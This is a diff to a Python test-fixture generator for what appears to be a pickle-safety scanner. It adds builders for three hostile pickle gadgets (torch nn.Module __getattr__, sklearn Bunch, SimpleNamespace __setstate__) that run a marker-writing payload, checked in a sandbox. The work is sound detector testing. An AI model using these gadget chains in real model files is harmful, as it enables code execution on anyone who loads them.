@@ -94,7 +94,31 @@ def setitem_attribute_not_called() -> bytes:
             + s("k") + bb(torch_legacy_payload("PWNED")) + SETITEM + STOP)
 
 
-# name -> (builder, verdict, what it shows, sandbox check: "marker" | "no-marker" | "class-patched")
+def module_getattr_append() -> bytes:
+    """nn.Module.__getattr__ hands out ``self._modules[name]`` for a name the module lacks:
+    APPEND on an Identity module calls the ``_modules`` entry ``append``."""
+    state = EMPTY_DICT + s("_modules") + EMPTY_DICT + s("append") + LOAD_FROM_BYTES + SETITEM + SETITEM
+    return (proto(4) + glob("torch.nn.modules.linear", "Identity") + EMPTY_TUPLE + NEWOBJ + state + BUILD
+            + bb(torch_legacy_payload("PWNED")) + APPEND + STOP)
+
+
+def bunch_item_append() -> bytes:
+    """sklearn's Bunch is a dict whose ``__getattr__`` returns ``self[name]``: an item set by
+    SETITEM is the ``append`` that APPEND calls."""
+    return (proto(4) + glob("sklearn.utils._bunch", "Bunch") + EMPTY_TUPLE + NEWOBJ
+            + s("append") + LOAD_FROM_BYTES + SETITEM + bb(torch_legacy_payload("PWNED")) + APPEND + STOP)
+
+
+def simplenamespace_mapping_setstate() -> bytes:
+    """``types.SimpleNamespace(mapping)`` (Python >= 3.13) sets an attribute per item: the
+    mapping's ``__setstate__`` is what BUILD then calls."""
+    ns = glob("types", "SimpleNamespace") + EMPTY_DICT + s("__setstate__") + LOAD_FROM_BYTES + SETITEM + TUPLE1 + REDUCE
+    return proto(4) + ns + bb(torch_legacy_payload("PWNED")) + BUILD + STOP
+
+
+# name -> (builder, verdict, mode, what it shows, sandbox check: "marker" | "no-marker" |
+# "class-patched", interpreter: "venv" (this one, with torch) | "py313" (pyenv's 3.13 with a
+# stand-in torch.storage._load_from_bytes that reads torch's legacy pickle sequence))
 REPRODUCERS = {
     "model-dict-alias-setstate.pkl": (
         dict_alias_setstate, "unsafe", "plain", "issue 12 model: setattr(inst, '__dict__', D) aliases D; a later "
@@ -108,6 +132,15 @@ REPRODUCERS = {
     "model-setitem-attr-not-called.pkl": (
         setitem_attribute_not_called, "suspicious", "plain", "issue 12 model: an instance attribute __setitem__ "
         "is not what SETITEM calls (type lookup); the gadget stays stored as an attribute", "no-marker"),
+    "model-module-getattr-append.pkl": (
+        module_getattr_append, "unsafe", "plain", "issue 12 model: nn.Module.__getattr__ returns _modules['append'] "
+        "for APPEND on an Identity module", "marker"),
+    "model-bunch-item-append.pkl": (
+        bunch_item_append, "unsafe", "plain", "issue 12 model: sklearn Bunch.__getattr__ returns the item 'append' "
+        "set by SETITEM; APPEND calls it", "marker"),
+    "model-simplenamespace-mapping-setstate.pkl": (
+        simplenamespace_mapping_setstate, "unsafe", "plain", "issue 12 model: SimpleNamespace(mapping) (Python "
+        "3.13+) sets __setstate__, BUILD calls it", "marker", "py313"),
 }
 
 _SANDBOX = """
@@ -120,12 +153,27 @@ print('patched' if getattr(argparse.Namespace, 'mlbom_marker', None) == 'patched
 """
 
 
-def _sandbox_check(data: bytes, check: str) -> None:
+_STUB = """import io, pickle
+def _load_from_bytes(b):  # torch.load's legacy reading: magic, protocol, sys info, then the object
+    f = io.BytesIO(b)
+    return [pickle.load(f) for _ in range(4)][-1]
+"""
+PY313 = Path("/root/.pyenv/versions/3.13.0/bin/python3.13")
+
+
+def _sandbox_check(data: bytes, check: str, interpreter: str = "venv") -> None:
     with tempfile.TemporaryDirectory() as tmp:
         f = Path(tmp) / "repro.pkl"
         f.write_bytes(data)
-        out = subprocess.run([sys.executable, "-I", "-c", _SANDBOX, str(f)], cwd=tmp, capture_output=True,
-                             text=True, timeout=120, check=False).stdout
+        cmd = [sys.executable, "-I", "-c", _SANDBOX, str(f)]
+        if interpreter == "py313":
+            stub = Path(tmp) / "stub" / "torch"
+            stub.mkdir(parents=True)
+            (stub / "__init__.py").write_text("")
+            (stub / "storage.py").write_text(_STUB)
+            cmd = [str(PY313), "-c", f"import sys; sys.path.insert(0, {str(stub.parent)!r}); " + _SANDBOX,
+                   str(f)]
+        out = subprocess.run(cmd, cwd=tmp, capture_output=True, text=True, timeout=120, check=False).stdout
         ran = (Path(tmp) / "PWNED").exists()
     if check == "marker":
         assert ran, f"the payload did not run: {out}"
@@ -267,9 +315,9 @@ def main() -> None:
     HOSTILE.mkdir(parents=True, exist_ok=True)
     rows = [line for line in (HOSTILE / "EXPECTED.tsv").read_text().splitlines() if line.strip()]
     rows = [r for r in rows if r.split("\t")[0] not in REPRODUCERS]
-    for name, (build, verdict, mode, what, check) in REPRODUCERS.items():
+    for name, (build, verdict, mode, what, check, *interp) in REPRODUCERS.items():
         data = build()
-        _sandbox_check(data, check)
+        _sandbox_check(data, check, *interp)
         (HOSTILE / name).write_bytes(data)
         rows.append("\t".join((name, verdict, mode, what)))
         print(f"{name}: checked ({check}), {verdict}")
